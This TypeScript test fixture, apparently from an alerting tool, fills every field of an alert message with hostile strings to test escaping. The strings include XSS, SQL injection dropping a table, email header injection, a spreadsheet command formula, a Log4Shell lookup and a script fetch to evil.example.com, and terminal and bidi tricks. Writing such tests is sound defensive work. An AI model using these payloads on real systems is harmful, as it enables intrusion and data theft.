import { HOSTILE_TEXTS } from '@vigilops/testkit/hostile';
import type { Letter } from '../channel.ts';
import { anAlert, contentOf, letterOf } from './letters.ts';

/** What others put into labels, messages and names. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>fetch("http://evil.example.com")</script>',
  '[click](javascript:alert(1))',
  '![x](http://evil.example.com/pixel.png)',
  '<!channel> <!here> <!everyone> <@U123> <#C123>',
  '<at user_id="all">everyone</at> <at id=all></at>',
  '@all @everyone @here @所有人 <@all>',
  '\u202Egnp.exe\u2066 \u200B hidden \u200F',
  '\u001B]8;;http://evil.example.com\u0007link\u001B]8;;\u0007 \u001B[2J',
  'one\r\nBcc: victim@example.com\r\n\r\nsecond body',
  '\0 \uD800 \uFFFE',
  '**bold** `code` ~~gone~~ # heading\n- list\n> quote\n```\nfence',
  "'; DROP TABLE vigilops.alerts; --",
  "=cmd|' /C calc'!A0",
  '{{ title }} ${jndi:ldap://evil.example.com/a} %s %n',
  '&lt;b&gt; &amp;#60;script&amp;#62;',
  '{"errcode":0,"ok":true}',
];

const TEXTS_A_LETTER = 24;

/** Letters with each text of the large corpus in each place that a message has. */
export function hostileLetters(): readonly Letter[] {
  const count = Math.ceil(HOSTILE_TEXTS.length / TEXTS_A_LETTER);
  return Array.from({ length: count }, (_, at) =>
    hostileLetter({}, HOSTILE_TEXTS.slice(at * TEXTS_A_LETTER, (at + 1) * TEXTS_A_LETTER)),
  );
}

/** Every one of them in every place that a message has. */
export function hostileLetter(changes: Partial<Letter> = {}, texts: readonly string[] = HOSTILE): Letter {
  const all = texts.join(' ');
  return letterOf({
    content: contentOf({
      title: all,
      priorityReason: all,
      cause: all,
      acknowledgedBy: all,
      runbook: all,
      alerts: texts.map((text, index) =>
        anAlert(index + 1, {
          ruleName: text,
          message: text,
          hostName: text,
          serviceName: text,
          labels: { [`label-${String(index)}`]: text },
          annotations: { description: text },
          generatorUrl: text,
        }),
      ),
      evidence: [{ kind: 'log_lines', title: all, lines: [...texts], host_id: null }],
      addressees: [{ name: all, email: null, phone: null }],
    }),
    ...changes,
  });
}
